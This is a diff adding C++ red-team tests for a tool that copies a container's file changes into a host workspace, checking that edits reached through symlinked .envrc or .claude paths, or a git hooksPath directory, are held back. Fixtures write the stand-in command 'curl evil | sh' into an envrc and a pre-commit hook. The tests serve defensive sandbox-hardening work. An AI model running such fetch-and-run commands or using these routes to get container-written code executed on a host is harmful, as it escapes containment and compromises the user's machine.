@@ -21,6 +21,11 @@ void write(const fs::path& p, const std::string& text, mode_t mode = 0644) {
   ::chmod(p.c_str(), mode);
 }
 
+std::string read_text(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  return std::string((std::istreambuf_iterator<char>(in)), {});
+}
+
 class WorkspaceRedteamTest : public ::testing::Test {
  protected:
   void SetUp() override {
@@ -61,6 +66,47 @@ TEST_F(WorkspaceRedteamTest, ALinkInPlaceOfADirectoryHoldingAControlFileIsHeldBa
   take.include_paths = {".claude"};
   report = apply(take);
   EXPECT_TRUE(fs::is_symlink(lower() / ".claude"));
+}
+
+// The project links a control path to an ordinary one (`.envrc -> tools/envrc`, `.claude ->
+// config/claude`, as projects that share such files do). The container edits the ordinary
+// path; apply took it, and direnv / the host's Claude Code then ran what the container wrote.
+TEST_F(WorkspaceRedteamTest, AControlPathTheProjectLinksElsewhereIsHeldBackWhereItLeads) {
+  write(lower() / "tools" / "envrc", "export A=1\n");
+  fs::create_symlink("tools/envrc", lower() / ".envrc");
+  fs::create_directories(lower() / "config" / "claude");
+  fs::create_symlink("config/claude", lower() / ".claude");
+  write(upper() / "tools" / "envrc", "curl evil | sh\n");
+  write(upper() / "config" / "claude" / "settings.json", "{\"hooks\":{}}");
+  write(upper() / "tools" / "other.txt", "fine\n");
+  auto report = apply();
+  EXPECT_EQ(read_text(lower() / "tools" / "envrc"), "export A=1\n") << "the file .envrc leads to was applied";
+  EXPECT_FALSE(fs::exists(lower() / "config" / "claude" / "settings.json"));
+  EXPECT_EQ(read_text(lower() / "tools" / "other.txt"), "fine\n");
+  EXPECT_EQ(report.held_back.size(), 2u);
+}
+
+// A damaged journal (not hex) made every diff and apply die in std::stoi with "stoi" for a
+// reason, and the journal was never removed: the workspace could not be reviewed again.
+TEST_F(WorkspaceRedteamTest, ADamagedJournalIsSkippedAndRemoved) {
+  write(layout_.journal, "cc-apply-journal 1\nzz zz\n7 2e\n 2e63632d6170706c792d31\n");
+  write(lower() / ".cc-apply-1", "left over\n");
+  int removed = -1;
+  EXPECT_NO_THROW(removed = workspace::recover_interrupted_apply(layout_));
+  EXPECT_EQ(removed, 1);
+  EXPECT_FALSE(fs::exists(layout_.journal));
+}
+
+// `git config core.hooksPath .githooks` is a common set-up. .git/hooks is held back, but
+// .githooks/pre-commit was applied, and the user's next `git commit` ran it on the host.
+TEST_F(WorkspaceRedteamTest, TheHooksDirectoryGitConfigNamesIsHeldBack) {
+  write(lower() / ".git" / "config", "[core]\n\trepositoryformatversion = 0\n\thooksPath = .githooks/\n");
+  write(lower() / ".githooks" / "pre-commit", "#!/bin/sh\nmake lint\n", 0755);
+  write(upper() / ".githooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
+  auto report = apply();
+  EXPECT_EQ(read_text(lower() / ".githooks" / "pre-commit"), "#!/bin/sh\nmake lint\n");
+  ASSERT_EQ(report.held_back.size(), 1u);
+  EXPECT_EQ(report.held_back[0].first->path, ".githooks/pre-commit");
 }
 
 }  // namespace
